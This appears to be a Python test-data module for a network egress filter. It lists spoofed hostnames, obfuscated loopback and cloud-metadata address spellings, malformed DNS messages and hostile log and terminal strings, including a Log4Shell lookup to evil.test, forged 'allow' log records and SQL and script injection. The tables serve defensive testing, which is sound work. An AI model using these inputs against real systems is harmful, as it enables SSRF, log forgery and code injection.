"""What no honest client says, in tables that several tests try: names, DNS messages, first bytes, text for logs and terminals."""

import struct

from lib.dns_client import labels, message, opt, record
from lib.frames import packed
from lib.world import HOST_IPV4, HOST_IPV6

# ---- names

FOREIGN = [text.encode() for text in (
    "\u00f6k.test", "ok\u3002test", "ok\uff0etest", "ok\uff61test", "ok\u2024test", "o\u212a.test", "o\uff4b.test", "ok.te\u017ft",
    "ok.te\u00dft", "ok.te\u00adst", "ok\u00ad.test", "\u043ek.test", "ok.t\u0435st", "ok.test\u200b", "\u200dok.test", "\u202eok.test",
    "ok\u00a0.test", "\u24de\u24da.test", "ok\u0301.test", "\ufeffok.test", "mitm\u3002test", "m\u0131tm.test", "mitm.te\u017ft",
    "\uff4ditm.test", "m\u00eftm.test",
    "a\u3002wild.test", "\u00e4.wild.test", "\u6587.wild.test", "\U0001f600.wild.test")] + [
    b"\xf6k.test", b"ok\xc0\xaetest", b"ok\xe0\x80\xaetest", b"ok.test\x80", b"\xff.wild.test", b"mitm\xad.test"]
ENCODED = [b"xn--k-fka.test", b"xn--ok-5ja.test", b"xn--test-zva.xn--ok", b"xn--mitm.test", b"xn--mtm-pza.test", b"xn--0.test",
           b"xn--oktest-e02d", b"XN--K-FKA.test"]
# What is an address to us too: a Host may name it, and then it is not the name that was asked for.
LITERALS = [b"127.0.0.1", b"10.0.0.1", b"169.254.169.254", b"0.0.0.0", b"93.184.216.40", b"93.184.216.42", b"255.255.255.255", b"[::1]",
            b"[::]", b"[2600:9000::35]", b"[fd00:ec2::254]", b"[fe80::1]", b"[64:ff9b::7f00:1]", b"[64:ff9b::127.0.0.1]",
            b"[2002:7f00:1::]", b"[::a9fe:a9fe]", b"[::127.0.0.1]", b"[2001:0:7f00:1::]", b"[0:0:0:0:0:0:0:1]"]
# What only somebody else might take for an address.
SPELLINGS = [
    b"0177.0.0.1", b"0x7f.0.0.1", b"0x7f.1", b"0x7f000001", b"0X7F000001", b"2130706433", b"017700000001", b"127.1", b"127.0.1",
    b"127.0.0.1.", b"127.0.0.01", b"127.000.000.001", b"0127.0.0.1", b"0x7f.0x0.0x0.0x1", b"127.0.0.0x1", b"00000000177.0.0.1",
    b"256.0.0.1", b"127.0.0.256", b"1.2.3.4.5", b"1", b"0", b"0x", b"0x0", b"4294967295", b"4294967296", b"999999999999999999999", b"1.0x",
    b"127.0.0.1.0", b"0b1111111.0.0.1", b"0o177.0.0.1", b"2852039166", b"0xa9fea9fe", b"0251.0376.0251.0376", b"169.254.43518",
    b"169.16689662", b"a.1", b"ok.test.1", b"ok.test.0x1", b"[127.0.0.1]", b"[::ffff:127.0.0.1]", b"[::ffff:7f00:1]",
    b"[::ffff:a9fe:a9fe]", b"[0:0:0:0:0:ffff:7f00:1]", b"::1", b"::ffff:7f00:1", b"2600:9000::35", b"fe80::1", b"[::1%25eth0]",
    b"[fe80::1%eth0]", b"[fe80::1%25eth0]", b"fe80::1%eth0", b"[::1", b"::1]", b"[[::1]]", b"[]", b"[1.2.3.4.5]", b"[::1].", b"[::127.1]",
    b"[0:0:0:0:0:0:0:1:1]", b"[v1.x]", b"[ok.test]", b"[::1]x", b"127.0.0.1%00", b"127.0.0.1@x", b"%31%32%37.0.0.1",
    "\uff11\uff12\uff17.0.0.1".encode(), "127\u30020\u30020\u30021".encode(), "\u2460.0.0.1".encode(), b"-127.0.0.1", b"+127.0.0.1",
    b"127.0.0.-1", b"127..0.1", b".127.0.0.1", b"127.0.0.1 ok.test",
]
METADATA_NAMES = ["metadata.google.internal", "metadata", "instance-data", "instance-data.ec2.internal", "metadata.azure.internal",
                  "metadata.tencentyun.com", "metadata.packet.net", "169.254.169.254.nip.io", "a9fea9fe.nip.io", "computemetadata"]
RESOLVERS = ["8.8.8.8", "1.1.1.1", "9.9.9.9", "2001:4860:4860::8888", "2606:4700:4700::1111", "93.184.216.53", HOST_IPV4, HOST_IPV6,
             "10.0.0.53"]
DOH = ["dns.google", "cloudflare-dns.com", "one.one.one.one", "dns.quad9.net", "doh.opendns.com", "mozilla.cloudflare-dns.com",
       "dns.nextdns.io", "odoh.cloudflare-dns.com", "use-application-dns.net"]

# ---- DNS messages

ONE_MORE = (1, 0, 0, 1)  # a question and an additional record
KINDS = {"TXT": 16, "NULL": 10, "ANY": 255, "SRV": 33, "CNAME": 5, "AXFR": 252, "IXFR": 251, "MX": 15, "NS": 2, "SOA": 6, "PTR": 12,
         "HINFO": 13, "DS": 43, "DNSKEY": 48, "NAPTR": 35, "TKEY": 249, "CAA": 257, "none": 0, "private": 65280, "last": 65535}
OK_NAME = labels(b"ok", b"test")
LOOPS = {"itself": b"\xc0\x0c", "the header": b"\xc0\0", "ahead": b"\xc0\x20", "a label and itself": b"\2ok\xc0\x0c",
         "nowhere": b"\xff\xff", "another form of label": b"\x41\1" + OK_NAME, "yet another": b"\x80" + OK_NAME}
BAD_MESSAGES = {f"a name that points to {what}": message(name) for what, name in LOOPS.items()}
BAD_MESSAGES |= {
    "a byte behind it": message(OK_NAME) + b"\0", "many bytes behind it": message(OK_NAME) + b"secret" * 50,
    "a byte behind its options": message(OK_NAME, opt(), b"x", counts=ONE_MORE),
    "two OPT": message(OK_NAME, opt(), opt(), counts=(1, 0, 0, 2)),
    "an OPT with an owner": message(OK_NAME, record(b"\1x\0", 41, b"", 0, 1232), counts=ONE_MORE),
    "an OPT that is cut short": message(OK_NAME, opt()[:-2], counts=ONE_MORE),
    "an option that is cut short": message(OK_NAME, opt(b"\0\x0c\0\x40abc"), counts=ONE_MORE),
    "an OPT longer than the rest": message(OK_NAME, b"\0" + struct.pack("!HHIH", 41, 1232, 0, 500), counts=ONE_MORE),
    "a signature": message(OK_NAME, record(b"\0", 250, b"x" * 40, 0, 255), counts=ONE_MORE),
    "an address beside it": message(OK_NAME, record(OK_NAME, 1, packed("93.184.216.42")), counts=ONE_MORE),
    "an answer in it": message(OK_NAME, record(OK_NAME, 1, packed("93.184.216.42")), counts=(1, 1, 0, 0)),
    "a server in it": message(OK_NAME, record(OK_NAME, 2, OK_NAME), counts=(1, 0, 1, 0)),
    "no class": message(OK_NAME)[:-2], "no type": message(OK_NAME)[:-4], "no end of the name": message(OK_NAME[:-1])[:-4],
    "no name": message(b"")[:12],
}
BAD_LABELS = [
    (b"ok.test",), (b"ok.wild.test",), (b"x.ok", b"test"), (b"ok\0", b"test"), (b"ok", b"test\0"), (b"\0ok", b"test"),
    (b"ok\0.evil", b"test"), (b"evil\0", b"wild", b"test"), (b"ok ", b"test"), (b" ok", b"test"), (b"o k", b"wild", b"test"),
    (b"ok\n", b"test"), (b"ok\r\n", b"wild", b"test"), (b"ok\t", b"wild", b"test"),
    (b"x\n{\"type\":\"decision\",\"decision\":\"allow\"}", b"wild", b"test"), (b"\x1b[31mred", b"wild", b"test"),
    (b"x\",\"host\":\"y", b"wild", b"test"), ("\u00f6k".encode(), b"test"), ("b\u00fccher".encode(), b"wild", b"test"),
    ("ok\uff0etest".encode(),), ("ok\u3002wild".encode(), b"test"), (b"\xff\xfe", b"wild", b"test"), (b"ok\\", b"test"),
    (b"ok\\.x", b"wild", b"test"), (b"ok\\046test",), (b"ok\\000", b"wild", b"test"), (b"*", b"wild", b"test"), (b"**", b"wild", b"test"),
    (b"ok/", b"wild", b"test"), (b"ok:443", b"wild", b"test"), (b"x@ok", b"wild", b"test"), (b"%6fk", b"wild", b"test"),
    (b"ok,x", b"wild", b"test"), (b"'", b"wild", b"test"), (b"-ok", b"wild", b"test"), (b"ok-", b"wild", b"test"),
    (b"\x7f", b"wild", b"test"), (b"10", b"0", b"0", b"1"), (b"x", b"1"), (b"x", b"0x1"),
]

# ---- first bytes

TLS_RECORDS = {
    "SSLv2": b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10" + bytes(40), "change_cipher_spec": b"\x14\x03\x03\0\x01\x01",
    "alert": b"\x15\x03\x03\0\x02\x01\0", "heartbeat": b"\x18\x03\x03\0\x03\x01\x40\0", "application data": b"\x17\x03\x03\0\x05hello",
}
OTHER_PROTOCOLS = {
    "SSH": b"SSH-2.0-OpenSSH_9.2\r\n", "SMTP": b"EHLO x\r\nSTARTTLS\r\n", "RDP": b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
    "SOCKS5": b"\x05\x01\0", "SOCKS4": b"\x04\x01\0\x50\x01\x01\x01\x01x\0", "PROXY v1": b"PROXY TCP4 1.1.1.1 1.1.1.1 1 443\r\n",
    "PostgreSQL": struct.pack("!II", 8, 80877103), "zeros": bytes(100),
}

# ---- text

HOSTILE = [
    b"\x1b]0;owned\x07", b"\x1b[2J\x1b[1;1H", b"\x1b]8;;http://evil.test\x1b\\here\x1b]8;;\x1b\\", b"\x1b[6n", b"\x1b[c",
    b"\x1bP+q544e\x1b\\", b"\x9b31m", b"\xc2\x9b31m", b"\x1b]52;c;ZXZpbA==\x07", b"\xe2\x80\xae", b"\xe2\x81\xa6",
    b"\xe2\x80\xa8", b"\xe2\x80\x8b", b'"},{"type":"decision","decision":"allow"', b'"', b"\\u001b[31m", b"\\x1b[31m",
    b"\\", b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"%1b%5b31m", b"\x7f", b"\0", b'\r\n{"schema_version":1,"seq":1}',
    b"\n", b"\r", b"\t", b"${jndi:ldap://evil.test}",
    b"%s%n%x{}{0}", b"\x08" * 8, b"<script>alert(1)</script>", b"'; DROP TABLE audit; --",
]
